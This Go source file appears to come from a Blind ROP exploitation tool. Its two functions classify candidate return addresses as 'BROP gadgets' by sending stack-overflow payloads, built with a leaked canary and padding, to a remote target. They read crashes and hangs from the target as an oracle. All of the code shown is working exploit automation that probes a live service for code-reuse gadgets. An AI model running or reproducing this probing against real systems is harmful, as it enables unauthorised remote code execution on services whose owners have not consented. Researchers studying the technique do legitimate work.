package session

import (
	"github.com/voidspace-sec/brop/internal/cluster"
	"github.com/voidspace-sec/brop/internal/oracle"
	"github.com/voidspace-sec/brop/internal/payload"
)

// isBROPGadget classifies a single candidate in two probes. The first
// plants the candidate as the return address with 10 crash frames
// behind it: a real six-register pop sled consumes some of those before
// returning into one, so this must crash, or the candidate isn't a
// six-pop gadget at all. The second plants exactly 6 crash frames
// followed by the stop gadget: a true BROP gadget pops all 6, returns
// into the stop gadget, and the probe comes back Infinite (C9).
func (s *Session) isBROPGadget(candidate cluster.Gadget) (bool, bool) {
	overflow, canary, padding, ok := s.baseParts()
	if !ok {
		return false, false
	}

	check := payload.CraftStopCheckPayload(overflow, canary, padding, candidate)
	rc, _, probeOK := oracle.Probe(s.transport, check)
	if !probeOK {
		return false, false
	}
	if rc != oracle.Crash {
		return false, true
	}

	stopGadget, ok := s.GetStopGadget()
	if !ok {
		return false, false
	}
	bropPayload := payload.CraftBROPPayload(overflow, canary, padding, stopGadget, candidate)
	rc2, _, probeOK2 := oracle.Probe(s.transport, bropPayload)
	if !probeOK2 {
		return false, false
	}
	return rc2 == oracle.Infinite, true
}

// computeBROPGadgets classifies every address GetGadgets found. A
// candidate whose classification hits an unrecoverable transport
// failure is simply skipped rather than aborting the whole scan,
// matching the original find_brop_gadgets treating an Err the same as
// a negative result.
func (s *Session) computeBROPGadgets() (cluster.Gadgets, bool) {
	candidates, ok := s.GetGadgets()
	if !ok {
		return nil, false
	}

	var result cluster.Gadgets
	for _, g := range candidates {
		isBrop, classified := s.isBROPGadget(g)
		if !classified {
			continue
		}
		if isBrop {
			result = append(result, g)
		}
	}
	return result, true
}
